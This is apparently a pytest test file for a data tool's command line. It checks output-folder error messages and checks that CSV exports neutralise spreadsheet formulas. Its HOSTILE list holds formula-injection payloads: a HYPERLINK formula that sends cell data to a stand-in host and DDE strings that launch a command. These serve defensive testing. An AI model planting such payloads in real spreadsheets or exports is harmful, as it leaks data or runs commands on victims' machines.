"""Files heard writes for people: a bad -o fails early with a clear message, and
CSV cells never reach a spreadsheet as formulas."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from .conftest import FIXTURES, assert_user_error


@pytest.fixture
def store(heard, sandbox: Path) -> Path:
    """A real store with posts and no labels (enough to export; the report would need labels)."""
    assert heard("ingest", str(FIXTURES / "x_v2.json"), "--db", "c.duckdb").code == 0
    (sandbox / "a-file").write_text("keep me\n")
    return sandbox / "c.duckdb"


@pytest.mark.parametrize("output", ["a-file", "a-file/sub"])
def test_export_into_a_file_is_a_clear_error(heard, store: Path, sandbox: Path, output: str) -> None:
    # was "internal error: FileExistsError", exit 70
    assert_user_error(heard("export", "--db", "c.duckdb", "-o", output), output, "expected a folder")
    assert (sandbox / "a-file").read_text() == "keep me\n"


@pytest.mark.parametrize("output", ["a-file", "a-file/sub", "a-file/sub/deeper"])
def test_report_into_an_unwritable_place_fails_before_the_work(heard, store: Path, sandbox: Path, output: str) -> None:
    # The store has no labels: had the analysis run first, the error would be about labels.
    result = heard("report", "--db", "c.duckdb", "-o", output)
    assert_user_error(result, output, "expected a folder")
    assert "heard label" not in result.err
    assert (sandbox / "a-file").read_text() == "keep me\n"


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into read-only folders")
def test_a_read_only_folder_is_refused(heard, store: Path, sandbox: Path) -> None:
    locked = sandbox / "locked"
    locked.mkdir(mode=0o555)
    assert_user_error(heard("export", "--db", "c.duckdb", "-o", "locked"), "locked", "cannot")
    assert_user_error(heard("report", "--db", "c.duckdb", "-o", "locked/report"), "locked", "cannot")


# -- CSV cells that spreadsheets would run ---------------------------------------------------------
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1, "click")', "+1+cmd|' /C calc'!A0", "-2+3 is what they said",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1 after a tab", "\r=1+1 after a return"]


def _cells(path: Path) -> list[str]:
    import csv

    with path.open(newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def test_csv_export_neutralises_formulas_and_parquet_keeps_them(heard, sandbox: Path) -> None:
    import json

    import pyarrow.parquet as pq

    posts = sandbox / "hostile.jsonl"
    posts.write_text("".join(json.dumps({"id": f"{t}id{i}", "text": f"{t}post {i}: {text}"}) + "\n"
                             for i, (t, text) in enumerate(zip(TRIGGERS, HOSTILE))), encoding="utf-8")
    assert heard("ingest", str(posts), "--db", "c.duckdb").code == 0
    assert heard("export", "--db", "c.duckdb", "--format", "csv", "-o", "csv").code == 0
    assert heard("export", "--db", "c.duckdb", "--format", "parquet", "-o", "parquet").code == 0
    for table in ("posts", "units", "labels", "runs"):
        cells = _cells(sandbox / "csv" / f"{table}.csv")
        assert not [c for c in cells if c.startswith(TRIGGERS)], table
    texts = set(_cells(sandbox / "csv" / "posts.csv"))
    stored = pq.read_table(sandbox / "parquet" / "posts.parquet").column("text").to_pylist()
    risky = [t for t in stored if t.startswith(TRIGGERS)]
    assert risky, "ingest kept no text that begins with a trigger: the test proves nothing"
    assert all("'" + t in texts for t in risky)  # the same cell, shown rather than run
    assert "-2+3 is what they said" in " ".join(stored)


def test_report_csv_tables_neutralise_formulas(tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    from heard.report import build_report
    from heard.store import Store

    from .test_report import add, corpus_rows

    hostile = {row[0]: f"{TRIGGERS[i % len(TRIGGERS)]}{row[0]}" for i, row in enumerate(corpus_rows())}
    rows = [(hostile[r[0]], hostile.get(r[1], r[1]), *r[2:]) for r in corpus_rows()]
    with Store.open(tmp_path / "t.duckdb") as store:
        add(store, rows)
        build_report(store, tmp_path / "out")
    tables = tmp_path / "out" / "tables"
    for csv_file in tables.glob("*.csv"):
        assert not [c for c in _cells(csv_file) if c.startswith(TRIGGERS)], csv_file.name
    raw = set(pq.read_table(tables / "reception.parquet").column("post_id").to_pylist())
    shown = set(_cells(tables / "reception.csv"))
    assert raw and raw <= set(hostile.values())
    assert {"'" + post_id for post_id in raw} <= shown


def test_sql_csv_output_neutralises_formulas(heard, sandbox: Path) -> None:
    import csv
    import io

    assert heard("ingest", str(FIXTURES / "x_v2.json"), "--db", "c.duckdb").code == 0
    result = heard("sql", "SELECT '=1+1' AS a, '-x' AS b, 'fine' AS c, -3 AS n", "--db", "c.duckdb", "--format", "csv")
    assert list(csv.reader(io.StringIO(result.out))) == [["a", "b", "c", "n"], ["'=1+1", "'-x", "fine", "-3"]]
    result = heard("sql", "SELECT '=1+1' AS a", "--db", "c.duckdb", "--format", "json")
    assert '"=1+1"' in result.out


# -- heard sample and heard demo check their -o as report and export do ----------------------------
@pytest.mark.parametrize("output, fragments", [
    ("nodir/samp.jsonl", ("expected an existing folder for the sample", "mkdir -p nodir")),
    ("a-file/samp.jsonl", ("found no folder at a-file",)),
    (".", ("expected a file for the sample, found a folder",)),
])
def test_sample_into_a_bad_place_is_a_clear_error(heard, store: Path, sandbox: Path, output: str,
                                                   fragments: tuple[str, ...]) -> None:
    assert_user_error(heard("sample", "--db", "c.duckdb", "-n", "2", "-o", output), output, *fragments)
    assert (sandbox / "a-file").read_text() == "keep me\n"
    assert not list(sandbox.rglob("*.part"))


@pytest.mark.parametrize("output", ["a-file", "a-file/demo"])
def test_demo_into_a_file_is_a_clear_error(heard, sandbox: Path, output: str) -> None:
    # was "internal error: FileExistsError" (a-file) and NotADirectoryError (a-file/demo), exit 70
    (sandbox / "a-file").write_text("keep me\n")
    assert_user_error(heard("demo", "-o", output), output, "expected a folder", "the demo")
    assert (sandbox / "a-file").read_text() == "keep me\n"


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into read-only folders")
def test_sample_and_demo_into_a_read_only_folder_are_refused(heard, store: Path, sandbox: Path) -> None:
    # was "internal error: PermissionError", exit 70
    locked = sandbox / "locked"
    locked.mkdir(mode=0o555)
    assert_user_error(heard("sample", "--db", "c.duckdb", "-n", "2", "-o", "locked/samp.jsonl"), "locked", "cannot")
    assert_user_error(heard("demo", "-o", "locked/demo"), "locked", "cannot")
    assert not list(locked.iterdir())
